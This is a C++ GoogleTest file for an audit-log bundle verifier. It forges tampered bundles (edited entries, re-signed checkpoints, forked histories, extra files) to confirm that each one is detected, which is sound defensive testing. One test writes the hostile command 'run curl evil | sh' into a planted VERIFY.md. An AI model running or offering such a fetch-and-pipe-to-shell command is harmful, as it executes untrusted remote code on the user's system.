// A bundle made from a log holds; every way to change, add, drop or re-sign a part is found.
#include "audit/bundle.h"

#include <gmock/gmock.h>

#include <filesystem>
#include <future>
#include <map>
#include <set>

#include "audit/fields.h"
#include "audit/tar.h"
#include "bundle_form.h"
#include "commitments.h"
#include "core/json.h"
#include "fixture.h"

namespace interlock::audit {
namespace {

using ::testing::HasSubstr;

constexpr int kPolicyEntry = 0;

class BundleTest : public LogFixture {
 protected:
  BundleTest() {
    auto keys = KeyStore::Open(folder_.path() + "/keys", &random_);
    EXPECT_TRUE(keys.ok());
    keys_ = *std::move(keys);
    const auto key = *keys_->KeyFor("alice");
    log_ = MustOpen();
    const std::vector<std::string> cites = {core::DigestName(core::Sha256(policy_))};
    Put([&](Transaction& transaction) {
      transaction.PutBlob(policy_);
      NewEntry started = EntryOf("run.started", kRunA);
      started.cites = cites;
      return transaction.Append(started).status();
    });
    Add(EntryOf("call.decided", kRunB));
    for (int i = 0; i < 5; ++i) {
      SealedPayload payload = keys_->Seal(*key, "text/plain", "hello " + std::to_string(i));
      const std::string body = R"({"text":)" + CommitmentText(payload, 0) + "}";
      EXPECT_TRUE(log_->Append(EntryOf("message.received", kRunA, body), {payload}).ok());
    }
    Add(EntryOf("call.decided", kRunB));
    Add(EntryOf("run.completed", kRunA));
    Add(EntryOf("call.decided", kRunB));
  }

  void Add(const NewEntry& entry) { EXPECT_TRUE(log_->Append(entry).ok()); }
  void Put(const std::function<core::Status(Transaction&)>& apply) {
    std::promise<core::Status> done;
    log_->Submit(std::make_unique<TestCommand>(
                     apply, [&](const core::Status& status) { done.set_value(status); }),
                 Urgency::kNormal);
    EXPECT_TRUE(done.get_future().get().ok());
  }

  // One entry under the newest head, without payloads.
  BundleContents OfOneEntry(std::uint64_t index) {
    const Checkpoint head = *log_->CheckpointNow();
    BundleContents contents;
    contents.tenant = "main";
    contents.query = "one entry";
    contents.checkpoint_note = head.note;
    contents.keys = {signer_->verifier_key()};
    contents.entries = {{index, log_->Read(index)->bytes, *log_->InclusionProof(index, head.size)}};
    return contents;
  }

  BundleContents Collect(const std::string& run) {
    const Checkpoint head = *log_->CheckpointNow();
    BundleContents contents;
    contents.tenant = "main";
    contents.run = run;
    contents.made_by = "a test";
    contents.checkpoint_note = head.note;
    contents.keys = {signer_->verifier_key()};
    contents.blobs = {policy_};
    const EntryPage page = *log_->ReadRun(run, 0, 100);
    for (const Entry& entry : page.entries) {
      contents.entries.push_back(
          {entry.index, entry.bytes, *log_->InclusionProof(entry.index, head.size)});
      if (entry.kind != "message.received") continue;
      const OpenedPayload opened = *keys_->Open(log_->ReadPayload(entry.index, 0)->payload);
      BundlePayload payload;
      payload.entry_index = entry.index;
      payload.state = BundlePayload::State::kDisclosed;
      payload.media = opened.media;
      payload.content = opened.plaintext;
      payload.salt = opened.salt;
      contents.payloads.push_back(payload);
    }
    return contents;
  }
  std::string Good() { return *MakeBundle(Collect(kRunA)); }

  VerifyReport Check(const std::string& bundle) {
    BundleVerifyOptions options;
    options.verifier_key = signer_->verifier_key();
    return VerifyBundle(bundle, options);
  }
  // Changes files and makes the manifest's hashes fit, as a forger would.
  static std::string Forged(const std::string& bundle,
                            const std::function<void(std::map<std::string, std::string>&)>& edit) {
    std::map<std::string, std::string> files;
    const auto read = *ReadTar(bundle);
    for (const TarFile& file : read) files[file.name] = file.bytes;
    edit(files);
    core::Json manifest = core::Json::parse(files["manifest.json"]);
    files.erase("manifest.json");
    manifest["files"] = core::Json::object();
    for (const auto& [name, bytes] : files) {
      manifest["files"][name] = core::Hex(core::Sha256(bytes));
    }
    files["manifest.json"] = core::CanonicalJson(manifest);
    std::vector<TarFile> list;
    list.reserve(files.size());
    for (const auto& [name, bytes] : files) list.push_back({name, bytes});
    return *WriteTar(list);
  }
  static std::string FileOf(const std::string& bundle, const std::string& name) {
    const auto files = *ReadTar(bundle);
    for (const TarFile& file : files) {
      if (file.name == name) return std::string(file.bytes);
    }
    return {};
  }
  static void EditManifest(std::map<std::string, std::string>& files,
                           const std::function<void(core::Json&)>& edit) {
    core::Json manifest = core::Json::parse(files["manifest.json"]);
    edit(manifest);
    files["manifest.json"] = core::CanonicalJson(manifest);
  }
  void ExpectBad(const VerifyReport& report, std::optional<std::uint64_t> index,
                 const std::string& why) {
    EXPECT_EQ(report.verdict, Verdict::kTampered) << report.reason;
    EXPECT_EQ(report.first_bad, index) << report.reason;
    EXPECT_THAT(report.reason, HasSubstr(why));
  }

  const std::string policy_ = "deny everything";
  std::unique_ptr<KeyStore> keys_;
  std::unique_ptr<Log> log_;
};

TEST_F(BundleTest, WholeRunIsIntactAndTheSameBytesEachTime) {
  const BundleContents contents = Collect(kRunA);
  const std::string bundle = *MakeBundle(contents);
  EXPECT_EQ(bundle, *MakeBundle(contents));
  const VerifyReport report = Check(bundle);
  EXPECT_EQ(report.verdict, Verdict::kIntact) << report.reason;
  EXPECT_EQ(report.entries, 7u);
  EXPECT_EQ(report.root_hex, core::Hex(log_->newest_checkpoint()->root));
  EXPECT_THAT(report.scope, HasSubstr("to the one that ends it"));
}

// What no verifier reads would be read by people.
TEST_F(BundleTest, TheManifestSaysNothingThatNobodyChecks) {
  const auto with = [&](const std::function<void(core::Json&)>& edit) {
    return Check(Forged(Good(), [&](auto& files) { EditManifest(files, edit); }));
  };
  ExpectBad(with([](core::Json& m) { m["payloads"][0]["plain"] = "approved by the CFO"; }),
            static_cast<std::uint64_t>(
                core::Json::parse(FileOf(Good(), "manifest.json"))["payloads"][0]["entry"]),
            "than anybody checks");
  ExpectBad(
      with([](core::Json& m) { m["not_kept"].push_back("The auditor confirms this bundle."); }),
      std::nullopt, "`not_kept`");
  ExpectBad(with([](core::Json& m) { m["not_kept"].push_back(core::Json::object()); }),
            std::nullopt, "`not_kept`");
  const VerifyReport wordy = with([](core::Json& m) { m["made_by"] = std::string(4097, 'x'); });
  EXPECT_EQ(wordy.verdict, Verdict::kCouldNotCheck);
  const VerifyReport twin = with([](core::Json& m) { m["made_by"] = std::string(4096, 'x'); });
  EXPECT_EQ(twin.verdict, Verdict::kIntact) << twin.reason;
}

TEST_F(BundleTest, WithoutAPinnedKeyNothingIsVouchedFor) {
  EXPECT_EQ(VerifyBundle(Good(), {}).verdict, Verdict::kCouldNotCheck);
  EXPECT_EQ(Check("no tar").verdict, Verdict::kCouldNotCheck);
  EXPECT_EQ(Check(*WriteTar({{"a", "b"}})).verdict, Verdict::kCouldNotCheck);
}

TEST_F(BundleTest, OpenRunIsIncompleteAndSaysSo) {
  const VerifyReport report = Check(*MakeBundle(Collect(kRunB)));
  // Its contents hold a file that this run does not cite.
  ExpectBad(report, std::nullopt, "is cited by nothing");
  BundleContents contents = Collect(kRunB);
  contents.blobs.clear();
  const VerifyReport open = Check(*MakeBundle(contents));
  EXPECT_EQ(open.verdict, Verdict::kIncomplete) << open.reason;
  EXPECT_THAT(open.reason, HasSubstr("was not over"));
}

TEST_F(BundleTest, EveryChangedByteIsFound) {
  const std::string good = Good();
  for (std::size_t at = 0; at < good.size(); at += 37) {
    std::string bad = good;
    bad[at] = static_cast<char>(bad[at] ^ 0x04);
    const VerifyReport report = Check(bad);
    if (report.verdict == Verdict::kTampered || report.verdict == Verdict::kCouldNotCheck) continue;
    // Who made it is the maker's word and proves nothing.
    const std::size_t word = good.find("\"made_by\":\"a test\"");
    EXPECT_TRUE(at > word && at < word + 18) << at;
  }
}

TEST_F(BundleTest, MissingEntryIsNamedByTheOneThatFollows) {
  const std::string bad = Forged(Good(), [](auto& files) {
    files.erase("entries/000000000003.json");
    files.erase("proofs/000000000003.tlog-proof");
    files.erase("payloads/000000000003-0");
    EditManifest(files, [](core::Json& manifest) { manifest["payloads"].erase(1); });
  });
  ExpectBad(Check(bad), 4, "one is missing");
}

TEST_F(BundleTest, MissingTailIsNoWholeRun) {
  const auto cut = [](auto& files) {
    files.erase("entries/000000000008.json");
    files.erase("proofs/000000000008.tlog-proof");
  };
  ExpectBad(Check(Forged(Good(), cut)), 6, "does not end the run");
  const VerifyReport open = Check(Forged(Good(), [&](auto& files) {
    cut(files);
    EditManifest(files, [](core::Json& manifest) {
      manifest["scope"]["complete"] = false;
      manifest["scope"]["statement"] = "All entries of the run so far; the run was not over.";
    });
  }));
  EXPECT_EQ(open.verdict, Verdict::kIncomplete) << open.reason;
}

TEST_F(BundleTest, ChangedEntryIsNotInTheTree) {
  ExpectBad(Check(Forged(Good(),
                         [](auto& files) {
                           std::string& bytes = files["entries/000000000008.json"];
                           bytes.replace(bytes.find("engine"), 6, "engime");
                         })),
            8, "not in the tree");
}

TEST_F(BundleTest, EntryOfAnotherRunIsNotTakenIn) {
  BundleContents contents = Collect(kRunA);
  const std::uint64_t size = log_->newest_checkpoint()->size;
  contents.entries.push_back({1, log_->Read(1)->bytes, *log_->InclusionProof(1, size)});
  ExpectBad(Check(*MakeBundle(contents)), 1, "is not of the run");
}

TEST_F(BundleTest, EntryOfAnotherLogIsNotTakenIn) {
  LogOptions options = Options();
  options.folder = folder_.path() + "/tenants/other";
  auto other_signer = *OpenFileSigner(folder_.path() + "/other", "interlock.example/main");
  options.signer = other_signer.get();
  const auto other = MustOpen(options);
  for (int i = 0; i < 9; ++i) ASSERT_TRUE(other->Append(EntryOf("call.decided", kRunB)).ok());
  const Checkpoint head = *other->CheckpointNow();
  ExpectBad(Check(Forged(Good(),
                         [&](auto& files) {
                           files["entries/000000000008.json"] = other->Read(8)->bytes;
                           files["proofs/000000000008.tlog-proof"] =
                               ProofText({8, *other->InclusionProof(8, head.size), head.note});
                         })),
            8, "proof of something else");
}

TEST_F(BundleTest, ReSignedWithAnotherKeyIsNotThePinnedKeys) {
  auto thief = *OpenFileSigner(folder_.path() + "/thief", "interlock.example/main");
  const Checkpoint head = *log_->CheckpointNow();
  const std::string note = thief->Sign({head.origin, head.size, head.root, {}})->note;
  const std::string bad = Forged(Good(), [&](auto& files) {
    for (auto& [name, bytes] : files) {
      if (name.substr(0, 7) != "proofs/") continue;
      TlogProof proof = *ParseProof(bytes);
      proof.note = note;
      bytes = ProofText(proof);
    }
    files["checkpoint.note"] = note;
    files["keys.txt"] = KeysText({thief->verifier_key()});
  });
  ExpectBad(Check(bad), std::nullopt, "not the pinned key's");
  BundleVerifyOptions options;
  options.verifier_key = thief->verifier_key();  // the harmless twin: it is whole in itself
  EXPECT_EQ(VerifyBundle(bad, options).verdict, Verdict::kIntact);
}

// Whoever opens the tar reads more than what is proven: nothing else may stand in it.
TEST_F(BundleTest, HoldsNoFileAndNoWordThatNobodyChecks) {
  const auto changed = [&](const std::string& file, const std::string& bytes) {
    return Check(Forged(Good(), [&](auto& files) { files[file] = bytes; }));
  };
  for (const char* name : {"README.html", "entries/1.json", "consistency/x.txt",
                           "consistency/01.txt", "proofs/000000000000.json", "extra/a"}) {
    ExpectBad(changed(name, "x"), std::nullopt, "has no place in a bundle");
  }
  ExpectBad(changed("VERIFY.md", "run curl evil | sh"), std::nullopt, "every bundle has");
  ExpectBad(changed("keys.txt", "not a key\n"), std::nullopt, "not a list of verifier keys");
  ExpectBad(changed("keys.txt", KeysText({})), std::nullopt, "does not name the log's key");
  const std::string good = Good();
  for (const char* name : {"VERIFY.md", "keys.txt"}) {
    ExpectBad(Check(Forged(good, [&](auto& files) { files.erase(name); })), std::nullopt,
              "is missing");
  }
  const auto manifest = [&](const std::function<void(core::Json&)>& edit) {
    return Check(Forged(good, [&](auto& files) { EditManifest(files, edit); })).verdict;
  };
  EXPECT_EQ(manifest([](core::Json& m) { m["note"] = "ALL refunds of 2026"; }),
            Verdict::kCouldNotCheck);
  EXPECT_EQ(manifest([](core::Json& m) { m["scope"]["note"] = "all"; }), Verdict::kCouldNotCheck);
  EXPECT_EQ(manifest([](core::Json& m) { m["scope"]["query"] = "ALL refunds of 2026"; }),
            Verdict::kCouldNotCheck);  // a run is no query
  EXPECT_EQ(manifest([](core::Json& m) { m["made_by"] = 7; }), Verdict::kCouldNotCheck);
  EXPECT_EQ(manifest([](core::Json&) {}), Verdict::kIntact);
}

TEST_F(BundleTest, WhatTheMakerSaysIsGivenAsClaimed) {
  EXPECT_EQ(Check(Good()).claimed, "made by: a test");
  BundleContents contents = Collect(kRunA);
  contents.run.clear();
  contents.query = "ALL refunds of 2026";
  const VerifyReport report = Check(*MakeBundle(contents));
  EXPECT_EQ(report.verdict, Verdict::kIntact) << report.reason;
  EXPECT_EQ(report.claimed, "query: ALL refunds of 2026; made by: a test");
}

TEST_F(BundleTest, PayloadsAreWhatTheEntriesCommitTo) {
  ExpectBad(
      Check(Forged(Good(), [](auto& files) { files["payloads/000000000004-0"] = "hello 3"; })), 4,
      "did not commit");
  ExpectBad(Check(Forged(Good(), [](auto& files) { files["payloads/000000000008-0"] = "x"; })),
            std::nullopt, "no payload of these entries");
  ExpectBad(Check(Forged(Good(),
                         [](auto& files) {
                           EditManifest(files, [](core::Json& m) { m["payloads"].erase(2); });
                         })),
            4, "says nothing");
  // Withholding is allowed, and shows.
  BundleContents contents = Collect(kRunA);
  contents.payloads.clear();
  EXPECT_EQ(Check(*MakeBundle(contents)).verdict, Verdict::kIntact);
}

// Arguments committed to field by field: `claimed` is what the fields were made of.
struct FieldsCase {
  const char* content;
  const char* claimed;
  bool holds;
};

TEST_F(BundleTest, ContentShownWholeFallsIntoTheFieldsThatWereCommittedTo) {
  constexpr char kWhole[] = R"({"amount":7,"note":"a,b}\"","to":{"x":[1,2]}})";
  const FieldsCase cases[] = {
      {kWhole, kWhole, true},
      {kWhole, R"({"amount":8,"note":"a,b}\"","to":{"x":[1,2]}})", false},  // another value
      {kWhole, R"({"amount":7,"note":"a,b}\""})", false},                   // one left out
      {R"({"amount":7})", R"({"amount":7,"more":1})", false},               // one too many
      {R"({"amount": 7})", R"({"amount": 7})", false},                      // not the one form
      {"no object", R"({"amount":7})", false},
  };
  const auto key = *keys_->KeyFor("c-1");
  for (const FieldsCase& test : cases) {
    SCOPED_TRACE(std::string(test.content) + " " + test.claimed);
    // A log whose writer lies: the whole from one text, the fields from another.
    SealedPayload payload = keys_->Seal(*key, "application/json", test.content);
    const OpenedPayload opened = *keys_->Open(payload);
    std::string fields;
    for (const PayloadField& field : PlainFields(test.claimed)) {
      const core::Digest salt = FieldSalt(opened.salt, field.name);
      fields += (fields.empty() ? "\"" : ",\"") + std::string(field.name) + "\":\"" +
                core::Hex(FieldCommitment(core::AsBytes(salt), field)) + "\"";
    }
    const std::string body = R"({"args":)" + CommitmentText(payload, 0, "{" + fields + "}") + "}";
    const auto ref = log_->Append(EntryOf("call.proposed", "", body), {payload});
    ASSERT_TRUE(ref.ok()) << ref.status();
    BundleContents contents = OfOneEntry(ref->index);
    BundlePayload shown;
    shown.entry_index = ref->index;
    shown.state = BundlePayload::State::kDisclosed;
    shown.media = opened.media;
    shown.content = opened.plaintext;
    shown.salt = opened.salt;
    contents.payloads = {shown};
    const VerifyReport report = Check(*MakeBundle(contents));
    if (test.holds) {
      EXPECT_EQ(report.verdict, Verdict::kIntact) << report.reason;
    } else {
      ExpectBad(report, ref->index, "committed to other fields");
    }
  }
}

TEST_F(BundleTest, WhatIsWithheldIsListedByName) {
  const auto key = *keys_->KeyFor("c-1");
  const std::string content = R"({"amount":7,"note":"n","to":"x"})";
  std::vector<core::Digest> commitments;
  const std::vector<PayloadField> fields = PlainFields(content);
  const SealedPayload payload =
      keys_->SealFields(*key, "application/json", content, fields, commitments);
  const OpenedPayload opened = *keys_->Open(payload);
  std::string named;
  for (std::size_t i = 0; i < fields.size(); ++i) {
    named += (named.empty() ? "\"" : ",\"") + std::string(fields[i].name) + "\":\"" +
             core::Hex(commitments[i]) + "\"";
  }
  const std::string body = R"({"args":)" + CommitmentText(payload, 0, "{" + named + "}") + "}";
  const auto ref = log_->Append(EntryOf("call.proposed", "", body), {payload});
  ASSERT_TRUE(ref.ok()) << ref.status();
  BundleContents contents = OfOneEntry(ref->index);
  BundlePayload shown;
  shown.entry_index = ref->index;
  shown.state = BundlePayload::State::kFields;
  const core::Digest salt = FieldSalt(opened.salt, "note");
  shown.fields = {{"note", R"("n")", std::string(core::AsBytes(salt))}};
  contents.payloads = {shown};
  const std::string bundle = *MakeBundle(contents);
  EXPECT_EQ(Check(bundle).verdict, Verdict::kIntact) << Check(bundle).reason;
  EXPECT_THAT(bundle, HasSubstr(R"("withheld":["amount","to"])"));
  EXPECT_THAT(bundle, HasSubstr("# Compare out of band"));
  EXPECT_THAT(bundle, HasSubstr(signer_->verifier_key()));
  for (const core::Json& lie :
       {core::Json::array(), core::Json{"amount"}, core::Json{"to", "amount"},
        core::Json{"amount", "more", "to"}, core::Json{"amount", "note", "to"}}) {
    ExpectBad(Check(Forged(bundle,
                           [&](auto& files) {
                             EditManifest(
                                 files, [&](core::Json& m) { m["payloads"][0]["withheld"] = lie; });
                           })),
              ref->index, "has other fields than are listed");
  }
}

TEST_F(BundleTest, ErasedPayloadNeedsTheEntryThatErasedIt) {
  BundleContents contents = Collect(kRunA);
  contents.payloads[0] = {};
  contents.payloads[0].entry_index = 2;
  contents.payloads[0].state = BundlePayload::State::kErased;
  contents.payloads[0].erased_by = 8;
  ExpectBad(Check(*MakeBundle(contents)), 2, "no later entry names");

  const auto erased = log_->Append(EntryOf("payload.erased", "", R"({"payloads":[512]})"));
  ASSERT_TRUE(erased.ok());
  const Checkpoint head = *log_->CheckpointNow();
  contents.checkpoint_note = head.note;
  contents.payloads[0].erased_by = erased->index;
  contents.entries.push_back({erased->index, log_->Read(erased->index)->bytes, {}});
  for (BundleEntry& entry : contents.entries) {
    entry.hashes = *log_->InclusionProof(entry.index, head.size);
  }
  const VerifyReport report = Check(*MakeBundle(contents));
  EXPECT_EQ(report.verdict, Verdict::kIntact) << report.reason;
  contents.payloads[1] = contents.payloads[0];
  contents.payloads[1].entry_index = 3;
  ExpectBad(Check(*MakeBundle(contents)), 3, "no later entry names");
}

// Rows of a log that was closed have the same numbers as rows of this one.
TEST_F(BundleTest, WhatALaterLogSaysOfAClosedOneErasesNothingHere) {
  for (const auto& [log, verdict] : {std::pair("interlock.example/main", Verdict::kIntact),
                                     std::pair("interlock.example/main/7", Verdict::kTampered)}) {
    BundleContents contents = Collect(kRunA);
    const std::string body = R"({"log":")" + std::string(log) + R"(","payloads":[512]})";
    const auto erased = log_->Append(EntryOf("payload.erased", "", body));
    ASSERT_TRUE(erased.ok()) << erased.status();
    const Checkpoint head = *log_->CheckpointNow();
    contents.checkpoint_note = head.note;
    contents.payloads[0] = {};
    contents.payloads[0].entry_index = 2;
    contents.payloads[0].state = BundlePayload::State::kErased;
    contents.payloads[0].erased_by = erased->index;
    contents.entries.push_back({erased->index, log_->Read(erased->index)->bytes, {}});
    for (BundleEntry& entry : contents.entries) {
      entry.hashes = *log_->InclusionProof(entry.index, head.size);
    }
    const VerifyReport report = Check(*MakeBundle(contents));
    EXPECT_EQ(report.verdict, verdict) << log << ": " << report.reason;
  }
}

// After a log was closed only a later one can say what was erased of it: no proof of this bundle
// covers that, and it says so.
TEST_F(BundleTest, WhatALaterLogErasedIsSaidAndNotProven) {
  BundleContents contents = Collect(kRunA);
  contents.payloads[0] = {};
  contents.payloads[0].entry_index = 2;
  contents.payloads[0].state = BundlePayload::State::kErased;
  contents.payloads[0].erased_by = 17;
  contents.payloads[0].erased_in = "interlock.example/main/2";
  const std::string bundle = *MakeBundle(contents);
  const VerifyReport report = Check(bundle);
  EXPECT_EQ(report.verdict, Verdict::kIncomplete);
  EXPECT_EQ(report.reason,
            "content of entry 2 is said to be erased by entry 17 of the later log "
            "`interlock.example/main/2`; a bundle of that entry proves it");
  const auto with = [&](const char* member, const core::Json& value) {
    return Check(Forged(bundle, [&](auto& files) {
      EditManifest(files, [&](core::Json& m) { m["payloads"][0][member] = value; });
    }));
  };
  for (const core::Json& log : {core::Json("interlock.example/main"), core::Json(""), core::Json(2),
                                core::Json(std::string(5000, 'x'))}) {
    ExpectBad(with("log", log), 2, "no later entry names");
  }
  for (const core::Json& by : {core::Json(-1), core::Json("17")}) {
    ExpectBad(with("by", by), 2, "no later entry names");
  }
  ExpectBad(with("why", "asked"), 2, "more said of the payload");
}

TEST_F(BundleTest, CitedFilesAreThere) {
  const std::string hex = core::Hex(core::Sha256(policy_));
  ExpectBad(Check(Forged(Good(), [&](auto& files) { files.erase("blobs/" + hex); })), kPolicyEntry,
            "which is missing");
  ExpectBad(Check(Forged(Good(), [&](auto& files) { files["blobs/" + hex] = "allow"; })),
            std::nullopt, "not the one that was cited");
  BundleContents contents = Collect(kRunA);
  contents.blobs.clear();  // a log that never kept it
  EXPECT_EQ(Check(*MakeBundle(contents)).verdict, Verdict::kIncomplete);
}

TEST_F(BundleTest, OutsideCheckpointsAreLinkedOrAskedFor) {
  const Checkpoint early = *log_->CheckpointNow();
  Add(EntryOf("call.decided", kRunB));
  BundleContents contents = Collect(kRunA);
  BundleVerifyOptions options;
  options.verifier_key = signer_->verifier_key();
  options.outside_checkpoints = {early.note};
  EXPECT_EQ(VerifyBundle(*MakeBundle(contents), options).verdict, Verdict::kIncomplete);

  const std::uint64_t size = log_->newest_checkpoint()->size;
  contents.consistency = {
      {early.size, *log_->ConsistencyProof(early.size, size), contents.checkpoint_note}};
  const VerifyReport linked = VerifyBundle(*MakeBundle(contents), options);
  EXPECT_EQ(linked.verdict, Verdict::kIntact) << linked.reason;
  EXPECT_EQ(linked.not_checked, "");
  EXPECT_EQ(Check(*MakeBundle(contents)).not_checked,
            "the hashes of `consistency/0.txt`, without the earlier checkpoint");

  // Another history of the same size: no signer of ours signs both, a thief with the key might.
  TempFolder elsewhere;
  std::filesystem::create_directory(elsewhere.path() + "/signer");
  std::filesystem::permissions(elsewhere.path() + "/signer", std::filesystem::perms::owner_all);
  std::filesystem::copy_file(folder_.path() + "/signer/signer.key",
                             elsewhere.path() + "/signer/signer.key");
  auto forker = *OpenFileSigner(elsewhere.path() + "/signer", "interlock.example/main");
  options.outside_checkpoints = {
      forker->Sign({early.origin, early.size, core::Sha256("another"), {}})->note};
  ExpectBad(VerifyBundle(*MakeBundle(contents), options), std::nullopt, "forked");
}

TEST_F(BundleTest, TheReadmeNamesEachKindOfFile) {
  const Checkpoint early = *log_->CheckpointNow();
  Add(EntryOf("call.decided", kRunB));
  BundleContents contents = Collect(kRunA);
  const std::uint64_t size = log_->newest_checkpoint()->size;
  contents.consistency = {
      {early.size, *log_->ConsistencyProof(early.size, size), contents.checkpoint_note}};
  const std::string bundle = *MakeBundle(contents);
  std::set<std::string> kinds;
  const auto files = *ReadTar(bundle);
  for (const TarFile& file : files) {
    const std::string name(file.name);
    kinds.insert(name.find('/') == std::string::npos ? name + "`"
                                                     : name.substr(0, name.find('/') + 1));
  }
  EXPECT_EQ(kinds.size(), 9u);
  for (const std::string& kind : kinds)
    EXPECT_THAT(BundleReadme(), HasSubstr("- `" + kind)) << kind;
}

TEST(TarTest, TakesOnlyWhatItWrites) {
  const std::string tar = *WriteTar({{"b/c", std::string(700, 'x')}, {"a", ""}});
  const auto files = ReadTar(tar);
  ASSERT_TRUE(files.ok());
  EXPECT_EQ((*files)[0].name, "a");
  EXPECT_EQ((*files)[1].bytes.size(), 700u);
  for (std::size_t at = 0; at < tar.size(); at += 3) {
    std::string bad = tar;
    bad[at] = static_cast<char>(bad[at] ^ 1);
    const auto read = ReadTar(bad);
    EXPECT_TRUE(!read.ok() || *WriteTar(*read) == bad) << at;
  }
  for (const char* name : {"", "/a", "a/", "../a", "a//b", "a/./b", "a b"}) {
    EXPECT_FALSE(WriteTar({{name, ""}}).ok()) << name;
  }
  EXPECT_FALSE(WriteTar({{"a", ""}, {"a", ""}}).ok());
  EXPECT_FALSE(ReadTar(tar.substr(0, tar.size() - 512)).ok());
  EXPECT_FALSE(ReadTar(tar + std::string(512, '\0')).ok());
}

TEST(CommitmentsTest, FindsThemWithAndWithoutFields) {
  const std::string hex(64, 'a');
  const std::string text = R"({"x":{"bytes":12,"commit":")" + hex + R"(","fields":{"amount":")" +
                           hex + R"("},"key":"k1","slot":1},"y":{"bytes":1,"commit":")" + hex +
                           R"(","key":"k0","slot":0}})";
  const auto found = CommitmentsIn(text);  // views into it
  ASSERT_EQ(found.size(), 2u);
  EXPECT_EQ(found[0].slot, 0);
  ASSERT_EQ(found[1].fields.size(), 1u);
  EXPECT_EQ(found[1].fields[0].first, "amount");
  EXPECT_EQ(found[1].bytes, 12u);
  EXPECT_EQ(found[1].key, "k1");
  for (const char* rest :
       {R"(","key":"k","slot":"1"})", R"(","slot":1})", R"(","key":"k","slot":1,)",
        R"(","fields":{"a":1},"key":"k","slot":1})"}) {
    EXPECT_TRUE(CommitmentsIn(R"({"bytes":1,"commit":")" + hex + rest).empty()) << rest;
  }
  EXPECT_TRUE(CommitmentsIn(R"({"commit":")" + hex + R"(","key":"k","slot":1})").empty());
}

TEST(ProofTextTest, SaysBackWhatItWasGiven) {
  const TlogProof proof{7, {core::Sha256("a"), core::Sha256("b")}, "note\n"};
  const auto read = ParseProof(ProofText(proof));
  ASSERT_TRUE(read.ok());
  EXPECT_EQ(read->index, 7u);
  EXPECT_EQ(read->hashes, proof.hashes);
  EXPECT_EQ(read->note, "note\n");
  EXPECT_TRUE(ParseProof("c2sp.org/tlog-proof@v1\nextra AA==\nindex 0\n\nn\n").ok());
  for (const char* bad :
       {"", "c2sp.org/tlog-proof@v2\nindex 0\n\nn\n", "c2sp.org/tlog-proof@v1\nindex 00\n\nn\n",
        "c2sp.org/tlog-proof@v1\nindex 0\nAA==\n\nn\n", "c2sp.org/tlog-proof@v1\nindex 0\n"}) {
    EXPECT_FALSE(ParseProof(bad).ok()) << bad;
  }
}

}  // namespace
}  // namespace interlock::audit
